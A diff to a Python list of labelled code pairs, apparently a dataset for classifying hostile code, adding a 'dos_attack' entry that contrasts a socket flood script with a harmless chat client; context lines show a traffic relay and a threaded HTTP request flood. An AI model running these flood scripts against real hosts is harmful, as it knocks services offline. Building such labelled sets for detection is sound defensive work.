@@ -222,6 +222,13 @@ PAIRS = [
      "    threading.Thread(target=pump, args=(client, far)).start()\n    pump(far, client)\n"
      "host, port = args.target.split(':')\nlis = socket.socket()\nlis.bind(('0.0.0.0', 9090))\nlis.listen(8)\nwhile True:\n"
      "    threading.Thread(target=serve, args=(lis.accept()[0], host, int(port))).start()"),
+    ("flood: one connected socket written to without pause, and a chat client that sends what is typed",
+     "dos_attack",
+     "import socket, time\ndef blast(ip, port, secs):\n    s = socket.socket()\n    s.connect((ip, port))\n"
+     "    start = time.time()\n    while time.time() - start < secs:\n        s.send(b'x' * 4096)\n"
+     "blast(input('ip: '), int(input('port: ')), int(input('seconds: ')))",
+     "import socket\ndef chat(ip, port):\n    s = socket.socket()\n    s.connect((ip, port))\n"
+     "    while True:\n        s.send(input('> ').encode())\nchat(input('ip: '), 5000)"),
     ("flood: request function handed to a pool", "dos_attack",
      "from concurrent.futures import ThreadPoolExecutor\nimport requests\nwith ThreadPoolExecutor(max_workers=800) as ex:\n"
      "    for _ in range(500000):\n        ex.submit(requests.get, 'https://shop.example.com/')",
